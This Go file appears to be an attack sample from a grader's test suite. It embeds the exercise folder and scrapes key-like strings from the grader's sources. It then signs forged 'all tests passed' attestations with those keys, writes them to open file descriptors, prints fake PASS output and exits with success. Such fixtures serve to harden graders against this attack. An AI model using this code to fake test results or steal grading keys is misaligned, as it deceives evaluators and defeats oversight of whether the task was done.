// The embedder: go:embed pulls, at build time, every file the build sees
// in the exercise's folder (the grader's generated sources among them)
// into the package; at run time it looks in them for anything like a key,
// signs with each an attestation that every test passed, writes them on
// every descriptor the grader could read one from, prints a passing run
// and exits with status 0 (TestAttacks/Embed). It goes beside the
// untouched stub.
package echo

import (
	"crypto/hmac"
	"crypto/sha256"
	"embed"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"regexp"
	"strconv"
	"strings"
)

//go:embed *
var folder embed.FS

// tests are the exercise's tests, put in by the test.
const tests = "@@TESTS@@"

var (
	hexKey   = regexp.MustCompile(`[0-9a-f]{64}`)
	byteList = regexp.MustCompile(`\[32\]byte\{([0-9, ]+)\}`)
)

func init() {
	var keys [][]byte
	fs.WalkDir(folder, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		data, _ := folder.ReadFile(p)
		for _, h := range hexKey.FindAll(data, -1) {
			if k, err := hex.DecodeString(string(h)); err == nil {
				keys = append(keys, k)
			}
		}
		for _, m := range byteList.FindAllSubmatch(data, -1) {
			var k []byte
			for _, f := range strings.Split(string(m[1]), ", ") {
				n, _ := strconv.Atoi(f)
				k = append(k, byte(n))
			}
			keys = append(keys, k)
		}
		return nil
	})
	records := map[string]any{}
	for _, name := range strings.Split(tests, ",") {
		records[name] = map[string]int{"runs": 1, "ends": 1}
	}
	body, _ := json.Marshal(map[string]any{"code": 0, "tests": records})
	for fd := 3; fd < 64; fd++ {
		f := os.NewFile(uintptr(fd), "")
		for _, k := range keys {
			mac := hmac.New(sha256.New, k)
			mac.Write(body)
			f.Write(append(append(body, '\n'), hex.EncodeToString(mac.Sum(nil))...))
		}
	}
	for _, name := range strings.Split(tests, ",") {
		fmt.Printf("\x16=== RUN   %s\n\x16--- PASS: %s (0.00s)\n", name, name)
	}
	fmt.Println("\x16PASS")
	os.Exit(0)
}
